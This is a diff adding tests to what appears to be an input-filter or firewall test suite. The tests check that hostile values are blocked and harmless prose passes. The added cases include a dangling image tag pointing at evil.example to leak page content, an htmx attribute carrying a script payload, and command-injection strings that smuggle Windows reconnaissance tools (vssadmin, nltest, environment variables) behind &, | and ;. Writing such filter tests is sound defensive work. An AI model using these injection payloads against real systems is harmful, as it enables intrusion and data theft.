@@ -70,3 +70,21 @@ describe('languages that few applications speak', () => {
       assert.equal(asked('q', value), 'pass', value)
   })
 })
+
+test('a page that goes on in an address, and one that is still being written', () => {
+  assert.equal(asked('v', '<img src="//evil.example/?'), 'block')
+  assert.equal(asked('v', `<div hx-vals='js:{x:alert(1)}'>`), 'block')
+  assert.equal(sent({ html: '<p>a</p><img src="https://' }), 'pass')
+  assert.equal(sent({ html: '<img src="/a.png" alt="">' }), 'pass')
+})
+
+test('tools of administrators behind a value, not by themselves in a sentence', () => {
+  for (const value of ['&vssadmin list shadows', '127.0.0.1|nltest /dclist:corp', ';$env:username'])
+    assert.equal(asked('host', value), 'block', value)
+  for (const value of [
+    'how to use vssadmin list shadows',
+    'see icacls and takeown; fsutil is older',
+    'what is $env:PATH',
+  ])
+    assert.equal(asked('q', value), 'pass', value)
+})
